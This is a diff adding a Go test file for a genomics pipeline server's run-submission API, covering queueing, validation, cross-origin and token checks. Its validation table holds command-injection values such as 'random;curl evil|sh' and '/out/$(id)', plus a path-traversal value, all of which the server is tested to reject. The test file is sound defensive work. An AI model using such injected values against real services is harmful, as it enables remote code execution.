@@ -0,0 +1,370 @@
+/*******************************************************************************
+ * Copyright (c) 2025 Genome Research Ltd.
+ *
+ * Authors:
+ *	- Sendu Bala <sb10@sanger.ac.uk>
+ *
+ * Permission is hereby granted, free of charge, to any person obtaining
+ * a copy of this software and associated documentation files (the
+ * "Software"), to deal in the Software without restriction, including
+ * without limitation the rights to use, copy, modify, merge, publish,
+ * distribute, sublicense, and/or sell copies of the Software, and to
+ * permit persons to whom the Software is furnished to do so, subject to
+ * the following conditions:
+ *
+ * The above copyright notice and this permission notice shall be included
+ * in all copies or substantial portions of the Software.
+ *
+ * THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND,
+ * EXPRESS OR IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF
+ * MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT.
+ * IN NO EVENT SHALL THE AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY
+ * CLAIM, DAMAGES OR OTHER LIABILITY, WHETHER IN AN ACTION OF CONTRACT,
+ * TORT OR OTHERWISE, ARISING FROM, OUT OF OR IN CONNECTION WITH THE
+ * SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE.
+ ******************************************************************************/
+
+package server
+
+import (
+	"context"
+	"net/http"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	. "github.com/smartystreets/goconvey/convey"
+)
+
+// fakeRunner is a Runner that waits for release before finishing each run.
+type fakeRunner struct {
+	release chan error
+}
+
+func newFakeRunner() *fakeRunner {
+	return &fakeRunner{release: make(chan error)}
+}
+
+func (f *fakeRunner) Run(ctx context.Context, _ []string) ([]byte, error) {
+	select {
+	case err := <-f.release:
+		return []byte("output"), err
+	case <-ctx.Done():
+		return nil, ctx.Err()
+	}
+}
+
+// waitForState polls the given run until it has the given state.
+func waitForState(s *Server, id, state string) Run {
+	var run Run
+
+	for range 100 {
+		run, _ = s.runs.get(id)
+		if run.State == state {
+			break
+		}
+
+		time.Sleep(10 * time.Millisecond)
+	}
+
+	So(run.State, ShouldEqual, state)
+
+	return run
+}
+
+func TestRuns(t *testing.T) {
+	Convey("Given a server with a Runner", t, func() {
+		runner := newFakeRunner()
+		s, _, ts := newTestServer(t, Options{
+			Runner:    runner,
+			RunArgs:   []string{"--qc", "all"},
+			FastqDir:  "/fastqs",
+			OutputDir: "/out",
+		})
+
+		Convey("You can submit a fastq run", func() {
+			var run Run
+
+			So(postJSON(ts, "/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"/fastqs/a"}`, &run),
+				ShouldEqual, http.StatusAccepted)
+			So(run.ID, ShouldEqual, "1")
+			So(run.Type, ShouldEqual, RunTypeFastq)
+			So(run.Args, ShouldResemble, []string{"run", "irods-to-lustre", "--qc", "all", "-o", "/fastqs/a", "s1:100"})
+
+			run = waitForState(s, "1", RunStateRunning)
+			So(run.Started, ShouldNotBeNil)
+
+			var runs []Run
+
+			So(getJSON(ts, "/api/runs", &runs), ShouldEqual, http.StatusOK)
+			So(runs, ShouldHaveLength, 1)
+			So(runs[0].State, ShouldEqual, RunStateRunning)
+
+			Convey("And see it complete", func() {
+				runner.release <- nil
+
+				waitForState(s, "1", RunStateComplete)
+
+				So(getJSON(ts, "/api/runs/1", &run), ShouldEqual, http.StatusOK)
+				So(run.State, ShouldEqual, RunStateComplete)
+				So(run.Output, ShouldEqual, "output")
+				So(run.Finished, ShouldNotBeNil)
+
+				var h Health
+
+				getJSON(ts, "/api/health", &h)
+				So(h.Runs[RunStateComplete], ShouldEqual, 1)
+			})
+
+			Convey("And see it fail", func() {
+				runner.release <- errFake
+
+				run = waitForState(s, "1", RunStateFailed)
+				So(run.Error, ShouldEqual, errFake.Error())
+			})
+
+			Convey("Later runs are queued behind it", func() {
+				So(postJSON(ts, "/api/runs/fastq", `{"samples":["s2:200"]}`, &run),
+					ShouldEqual, http.StatusAccepted)
+				So(run.ID, ShouldEqual, "2")
+				So(run.State, ShouldEqual, RunStateQueued)
+
+				runner.release <- nil
+
+				waitForState(s, "2", RunStateRunning)
+
+				Convey("And failed if the server is closed", func() {
+					So(postJSON(ts, "/api/runs/fastq", `{"samples":["s2:200"]}`, &run),
+						ShouldEqual, http.StatusAccepted)
+
+					s.Close()
+
+					run, _ = s.runs.get("2")
+					So(run.State, ShouldEqual, RunStateFailed)
+					So(run.Error, ShouldEqual, context.Canceled.Error())
+
+					run, _ = s.runs.get("3")
+					So(run.State, ShouldEqual, RunStateFailed)
+					So(run.Error, ShouldEqual, ErrClosed.Error())
+
+					var errResp errorResponse
+
+					So(postJSON(ts, "/api/runs/fastq", `{"samples":["s2:200"]}`, &errResp),
+						ShouldEqual, http.StatusServiceUnavailable)
+					So(errResp.Error, ShouldEqual, ErrClosed.Error())
+				})
+			})
+		})
+
+		Convey("You can submit a dimsum run spanning experiments", func() {
+			var run Run
+
+			So(postJSON(ts, "/api/runs/dimsum", `{"samples":["s1:100","s2:200"],"output_dir":"/out/b",`+
+				`"fastq_dir":"/fastqs/a","options":{"vsearchMinQual":"30","mixedSubstitutions":"true"},`+
+				`"sweep":["maxSubstitutions=2,3"]}`, &run), ShouldEqual, http.StatusAccepted)
+			So(run.Args, ShouldResemble, []string{
+				"run", "dimsum", "--qc", "all", "--batch", "-f", "/fastqs/a",
+				"--mixedSubstitutions=true", "--vsearchMinQual=30", "--sweep", "maxSubstitutions=2,3",
+				"-o", "/out/b", "s1:100", "s2:200",
+			})
+		})
+
+		Convey("Invalid run requests are rejected", func() {
+			for _, test := range []struct {
+				path, body, err string
+				status          int
+			}{
+				{"/api/runs/foo", `{}`, ErrUnknownRunType.Error() + ": foo", http.StatusNotFound},
+				{"/api/runs/fastq", `{"foo":1}`, `json: unknown field "foo"`, http.StatusBadRequest},
+				{"/api/runs/fastq", `{}`, ErrNoSamples.Error(), http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s1"]}`, "", http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s9:100"]}`, "", http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"fastqs"}`,
+					ErrRelativeDir.Error() + `: output_dir "fastqs"`, http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"/out"}`,
+					ErrDirNotAllowed.Error() + `: output_dir "/out" is not within "/fastqs"`, http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"/fastqs/../etc"}`, "", http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"/fastqs2"}`, "", http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"output_dir":"/fastqs"}`,
+					ErrDirNotAllowed.Error() + `: output_dir "/fastqs" is not within "/out"`, http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"fastq_dir":"/f"}`,
+					ErrDirNotAllowed.Error() + `: fastq_dir "/f" is not within "/fastqs"`, http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"options":{"cores":"2"}}`,
+					ErrUnknownOption.Error() + ": cores", http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"sweep":["cores=1,2"]}`, "", http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"options":{"mutagenesisType":"random;curl evil|sh"}}`,
+					ErrInvalidOption.Error() + `: mutagenesisType="random;curl evil|sh"`, http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"options":{"vsearchMinQual":"20 $(id)"}}`,
+					"", http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"options":{"cutAdaptErrorRate":"x"}}`,
+					"", http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"options":{"mixedSubstitutions":"yes"}}`,
+					"", http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"fastq_dir":"/fastqs/x;curl evil|sh"}`,
+					ErrUnsafeDir.Error() + `: fastq_dir "/fastqs/x;curl evil|sh"`, http.StatusBadRequest},
+				{"/api/runs/dimsum", `{"samples":["s1:100"],"output_dir":"/out/$(id)"}`,
+					ErrUnsafeDir.Error() + `: output_dir "/out/$(id)"`, http.StatusBadRequest},
+				{"/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"/fastqs/a b"}`,
+					"", http.StatusBadRequest},
+			} {
+				var errResp errorResponse
+
+				So(postJSON(ts, test.path, test.body, &errResp), ShouldEqual, test.status)
+				So(errResp.Error, ShouldNotBeBlank)
+
+				if test.err != "" {
+					So(errResp.Error, ShouldEqual, test.err)
+				}
+			}
+
+			var runs []Run
+
+			getJSON(ts, "/api/runs", &runs)
+			So(runs, ShouldBeEmpty)
+
+			var errResp errorResponse
+
+			So(getJSON(ts, "/api/runs/1", &errResp), ShouldEqual, http.StatusNotFound)
+			So(errResp.Error, ShouldEqual, ErrRunNotFound.Error())
+		})
+	})
+
+	Convey("Every DimSumOption has its values checked", t, func() {
+		for _, name := range DimSumOptions {
+			So(dimsumOptionCheckers, ShouldContainKey, name)
+		}
+
+		So(dimsumOptionCheckers, ShouldHaveLength, len(DimSumOptions))
+	})
+
+	Convey("Runs can't be submitted by other sites or without JSON", t, func() {
+		_, _, ts := newTestServer(t, Options{Runner: newFakeRunner(), FastqDir: "/fastqs"})
+		body := `{"samples":["s1:100"]}`
+
+		for _, test := range []struct {
+			header http.Header
+			err    error
+			status int
+		}{
+			{http.Header{contentTypeHeader: {"text/plain"}}, ErrNotJSON, http.StatusUnsupportedMediaType},
+			{http.Header{}, ErrNotJSON, http.StatusUnsupportedMediaType},
+			{http.Header{contentTypeHeader: {jsonContentType}, originHeader: {"http://evil.example"}},
+				ErrCrossOrigin, http.StatusForbidden},
+			{http.Header{contentTypeHeader: {jsonContentType}, originHeader: {"null"}},
+				ErrCrossOrigin, http.StatusForbidden},
+			{http.Header{contentTypeHeader: {jsonContentType}, fetchSiteHeader: {"cross-site"}},
+				ErrCrossOrigin, http.StatusForbidden},
+			{http.Header{contentTypeHeader: {jsonContentType}, fetchSiteHeader: {"same-site"}},
+				ErrCrossOrigin, http.StatusForbidden},
+		} {
+			var errResp errorResponse
+
+			So(post(ts, "/api/runs/fastq", body, test.header, &errResp), ShouldEqual, test.status)
+			So(errResp.Error, ShouldEqual, test.err.Error())
+		}
+
+		var run Run
+
+		So(post(ts, "/api/runs/fastq", body, http.Header{
+			contentTypeHeader: {jsonContentType + "; charset=utf-8"},
+			originHeader:      {ts.URL},
+			fetchSiteHeader:   {fetchSiteSameOrigin},
+		}, &run), ShouldEqual, http.StatusAccepted)
+	})
+
+	Convey("With a Token, runs can only be submitted with it", t, func() {
+		_, _, ts := newTestServer(t, Options{Runner: newFakeRunner(), FastqDir: "/fastqs", Token: "t0ken"})
+		body := `{"samples":["s1:100"]}`
+
+		var settings Settings
+
+		So(getJSON(ts, "/api/settings", &settings), ShouldEqual, http.StatusOK)
+		So(settings.TokenRequired, ShouldBeTrue)
+
+		for _, auth := range []string{"", "t0ken", "Bearer", "Bearer wrong", "Basic t0ken"} {
+			var errResp errorResponse
+
+			So(post(ts, "/api/runs/fastq", body, http.Header{
+				contentTypeHeader:   {jsonContentType},
+				authorizationHeader: {auth},
+			}, &errResp), ShouldEqual, http.StatusUnauthorized)
+			So(errResp.Error, ShouldEqual, ErrBadToken.Error())
+		}
+
+		var run Run
+
+		So(post(ts, "/api/runs/fastq", body, http.Header{
+			contentTypeHeader:   {jsonContentType},
+			authorizationHeader: {"Bearer t0ken"},
+		}, &run), ShouldEqual, http.StatusAccepted)
+	})
+
+	Convey("Runs need the server's Options to have directories", t, func() {
+		_, _, ts := newTestServer(t, Options{Runner: newFakeRunner()})
+
+		var errResp errorResponse
+
+		So(postJSON(ts, "/api/runs/fastq", `{"samples":["s1:100"],"output_dir":"/out"}`, &errResp),
+			ShouldEqual, http.StatusBadRequest)
+		So(errResp.Error, ShouldStartWith, ErrDirNotAllowed.Error())
+
+		So(postJSON(ts, "/api/runs/dimsum", `{"samples":["s1:100"],"output_dir":"/out"}`, &errResp),
+			ShouldEqual, http.StatusBadRequest)
+		So(errResp.Error, ShouldEqual, ErrMissingFastqDir.Error())
+	})
+
+	Convey("Run directories default to those of the server's Options", t, func() {
+		_, _, ts := newTestServer(t, Options{Runner: newFakeRunner(), FastqDir: "/fastqs", OutputDir: "/out"})
+
+		var run Run
+
+		So(postJSON(ts, "/api/runs/fastq", `{"samples":["s1:100"]}`, &run), ShouldEqual, http.StatusAccepted)
+		So(run.Request.OutputDir, ShouldEqual, "/fastqs")
+		So(run.Args, ShouldResemble, []string{"run", "irods-to-lustre", "-o", "/fastqs", "s1:100"})
+
+		So(postJSON(ts, "/api/runs/dimsum", `{"samples":["s1:100"]}`, &run), ShouldEqual, http.StatusAccepted)
+		So(run.Request.FastqDir, ShouldEqual, "/fastqs")
+		So(run.Args, ShouldResemble, []string{"run", "dimsum", "-f", "/fastqs", "-o", "/out", "s1:100"})
+
+		So(postJSON(ts, "/api/runs/dimsum", `{"samples":["s1:100"],"output_dir":"/out/other"}`, &run),
+			ShouldEqual, http.StatusAccepted)
+		So(run.Request.OutputDir, ShouldEqual, "/out/other")
+	})
+
+	Convey("Runs can't be submitted to a server without a Runner", t, func() {
+		_, _, ts := newTestServer(t, Options{FastqDir: "/fastqs"})
+
+		var errResp errorResponse
+
+		So(postJSON(ts, "/api/runs/fastq", `{"samples":["s1:100"]}`, &errResp),
+			ShouldEqual, http.StatusServiceUnavailable)
+		So(errResp.Error, ShouldEqual, ErrNoRunner.Error())
+	})
+
+	Convey("An ExecRunner runs an executable in a new working directory", t, func() {
+		dir := t.TempDir()
+		exe := filepath.Join(dir, "exe.sh")
+		So(os.WriteFile(exe, []byte("#!/bin/sh\npwd\necho \"$@\"\n[ \"$1\" = ok ]\n"), 0700), ShouldBeNil) //nolint:gosec
+
+		e := &ExecRunner{Exe: exe, WorkDir: dir}
+
+		out, err := e.Run(context.Background(), []string{"ok", "a"})
+		So(err, ShouldBeNil)
+		So(string(out), ShouldContainSubstring, filepath.Join(dir, runDirPattern))
+		So(string(out), ShouldEndWith, "ok a\n")
+
+		entries, err := os.ReadDir(dir)
+		So(err, ShouldBeNil)
+		So(entries, ShouldHaveLength, 1)
+
+		out, err = e.Run(context.Background(), []string{"bad"})
+		So(err, ShouldNotBeNil)
+		So(err.Error(), ShouldContainSubstring, "kept")
+		So(string(out), ShouldEndWith, "bad\n")
+
+		entries, err = os.ReadDir(dir)
+		So(err, ShouldBeNil)
+		So(entries, ShouldHaveLength, 2)
+	})
+}